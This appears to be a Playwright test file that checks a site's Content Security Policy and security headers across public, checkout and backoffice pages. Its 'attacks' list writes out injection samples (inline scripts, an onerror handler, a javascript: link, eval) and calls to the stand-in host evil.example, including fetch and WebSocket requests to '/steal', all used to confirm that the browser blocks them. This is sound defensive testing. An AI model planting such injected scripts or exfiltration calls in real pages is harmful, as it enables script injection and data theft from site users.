// The content security policy in a browser: injected content must not run, load or send anything.
import { readFileSync } from 'node:fs'
import { test as base, type Page } from '@playwright/test'
import { expect, routes, test } from './support/context.ts'

/** Waits until the browser reports that `act` violated one of these directives. */
async function expectRefusal(page: Page, act: () => void, directives: readonly string[]): Promise<void> {
  await page.evaluate(() => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))
    Object.assign(window, { refused })
  })
  // With Trusted Types the action itself throws.
  await page.evaluate(act).catch(() => undefined)
  const refused = () => page.evaluate(() => (window as never as { refused: string[] }).refused)
  await expect.poll(async () => (await refused()).filter((one) => directives.includes(one))).not.toEqual([])
}

/** The directive for Trusted Types. */
const TRUSTED = 'require-trusted-types-for'

const wasOwned = (page: Page) => page.evaluate(() => 'owned' in window)

const WORD = 'a word to another site'
const attacks: [string, string, () => void][] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.textContent = 'window.owned = true'
      document.body.append(script)
    }
  ],
  [
    'an inline handler',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.owned = true">')
    }
  ],
  [
    'a link that is a script',
    'script-src-elem',
    () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.owned=true'
      document.body.append(link)
      link.click()
    }
  ],
  [
    'a script of another site',
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    }
  ],
  [
    'text that is run',
    'script-src',
    () => {
      // Deferred, because code that the test runs directly is exempt.
      setTimeout(() => {
        // biome-ignore lint/security/noGlobalEval: the test is that it does not run.
        window.eval('window.owned = true')
      })
    }
  ],
  [
    'a frame of another site',
    'frame-src',
    () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    }
  ],
  [
    'another base for all links',
    'base-uri',
    () => {
      const other = document.createElement('base')
      other.href = 'https://evil.example/'
      document.head.append(other)
    }
  ],
  [
    'a style attribute',
    'style-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed">x</p>')
    }
  ],
  [
    'a connection to another site',
    'connect-src',
    () => {
      try {
        new WebSocket('wss://evil.example/steal').close()
      } catch {
        // Some browsers throw as well.
      }
    }
  ],
  [
    WORD,
    'connect-src',
    () => {
      void fetch('https://evil.example/steal').catch(() => undefined)
    }
  ],
  [
    'a form that goes elsewhere',
    'form-action',
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    }
  ]
]

/** One page per policy: a public page, a payment page, and the backoffice, which has Trusted Types. */
const policies = ['/', '/checkout/', '/bo9/login/'] as const

for (const where of policies)
  base(`on ${where} injected content cannot run, load or send anything`, async ({ page }) => {
    await page.goto(where)
    const isOffice = where.startsWith('/bo9/')
    // A public page may fetch recordings from any host, as it may show pictures of any.
    const refused = where === '/' ? attacks.filter(([name]) => name !== WORD) : attacks
    for (const [name, directive, act] of refused)
      await base.step(name, async () => {
        await expectRefusal(page, act, isOffice ? [directive, TRUSTED] : [directive])
        expect(await wasOwned(page)).toBe(false)
        expect(new URL(page.url()).pathname).toBe(where)
      })
  })

base('no other site can show us in a frame', async ({ page, baseURL }) => {
  await page.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` })
  )
  await page.goto('https://evil.example/')
  await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/)
})

test('every kind of page loads in both themes without policy violations, and from the site only', async ({
  page,
  baseURL
}) => {
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(`${baseURL}/`) && !request.url().startsWith('data:'))
      foreign.push(request.url())
  })
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme })
    for (const route of routes) {
      const response = await page.goto(route, { waitUntil: 'load' })
      const headers = response?.headers() ?? {}
      expect(headers['content-security-policy'], route).toContain(
        "default-src 'none'; script-src 'self' 'sha256-"
      )
      expect(headers['x-content-type-options'], route).toBe('nosniff')
      expect(headers['referrer-policy'], route).toBe('strict-origin-when-cross-origin')
      expect(headers['strict-transport-security'], route).toContain('includeSubDomains')
      expect(headers['cache-control'], route).toBe('public, max-age=0, must-revalidate')
    }
  }
  expect(foreign).toEqual([])
})

test('payment pages, the login and missing pages load without policy violations', async ({ page }) => {
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme })
    for (const route of ['/checkout/', '/checkout/success/', '/superfan/', '/bo9/login/'])
      expect((await page.goto(route, { waitUntil: 'load' }))?.status(), route).toBe(200)
  }
})

test.describe('without a matching page', () => {
  test.use({ expectedComplaints: [/status of 404/] })

  test('the 404 page works under every policy', async ({ page }) => {
    for (const route of ['/oz/', '/checkout/oz/', '/bo9/oz/']) {
      expect((await page.goto(route, { waitUntil: 'load' }))?.status(), route).toBe(404)
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('404 Page Not Found')
    }
    expect((await page.request.get('/bo9/oz/')).headers()['cache-control']).toBe('no-store')
  })
})

test('posters and audio of other hosts load', async ({ page }) => {
  const sound = readFileSync('sample/audio/kort-maar-krachtig.mp3')
  const picture = '<svg xmlns="http://www.w3.org/2000/svg" width="2" height="3"/>'
  await page.route(/^https:\/\//, (route) =>
    route.request().resourceType() === 'media'
      ? route.fulfill({ body: sound, contentType: 'audio/mpeg' })
      : route.fulfill({ body: picture, contentType: 'image/svg+xml' })
  )
  await page.goto('/')
  const came = await page.evaluate(async () => {
    const load = (element: HTMLImageElement | HTMLAudioElement, name: string, src: string) =>
      new Promise((resolve) => {
        element.addEventListener(name, () => resolve('came'))
        element.addEventListener('error', () => resolve('refused'))
        element.src = src
      })
    const hosts = [
      'https://traffic.libsyn.com/a.mp3',
      'https://media.example/b.mp3',
      'https://anchor.fm/c.mp3'
    ]
    return Promise.all([
      load(new Image(), 'load', 'https://image.tmdb.org/t/p/w342/poster.svg'),
      ...hosts.map((host) => load(new Audio(), 'loadedmetadata', host))
    ])
  })
  expect(came).toEqual(Array(4).fill('came'))
})
